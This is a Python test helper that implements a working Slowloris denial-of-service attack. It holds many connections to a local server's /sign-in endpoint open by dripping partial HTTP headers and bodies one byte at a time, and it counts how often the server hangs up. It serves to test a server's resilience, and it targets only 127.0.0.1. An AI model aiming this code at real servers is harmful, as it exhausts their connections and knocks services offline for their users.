"""Slowloris, from a process of its own: `python -m tests.attacks.slow_sender PORT HEADS BODIES SECONDS`.

Holds so many connections whose head, and so many whose body never ends, each with a byte every three seconds; one that is
hung up on is opened again. Prints how often that happened.
"""

import asyncio
import sys
from contextlib import suppress

PAUSE = 3.0
REQUEST = "{method} /sign-in HTTP/1.1\r\nHost: 127.0.0.1\r\nOrigin: http://127.0.0.1:8000\r\n"
BEGUN_HEAD = (REQUEST.format(method="GET") + "X-Slow: ").encode()
BEGUN_BODY = (
    REQUEST.format(method="POST") + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\nemail="
).encode()


async def attack(port: int, heads: int, bodies: int, seconds: float) -> int:
    """How often the server hung up on one of them."""
    ends = asyncio.get_running_loop().time() + seconds
    begun = [BEGUN_HEAD] * heads + [BEGUN_BODY] * bodies
    return sum(await asyncio.gather(*(_hold(port, each, ends, number * PAUSE / len(begun)) for number, each in enumerate(begun))))


async def _hold(port: int, begun: bytes, ends: float, later: float) -> int:
    await asyncio.sleep(later)
    hung_up, now = 0, asyncio.get_running_loop().time
    while now() < ends:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            try:
                await _drip(reader, writer, begun, ends)
            finally:
                writer.close()
            hung_up += now() < ends
        await asyncio.sleep(0.05)
    return hung_up


async def _drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, begun: bytes, ends: float) -> None:
    writer.write(begun)
    while asyncio.get_running_loop().time() < ends:
        await writer.drain()
        with suppress(TimeoutError):
            if not await asyncio.wait_for(reader.read(1000), PAUSE):
                return
        writer.write(b"a")


if __name__ == "__main__":
    print("attacking", flush=True)
    port, heads, bodies, seconds = map(int, sys.argv[1:])
    print(asyncio.run(attack(port, heads, bodies, seconds)), flush=True)
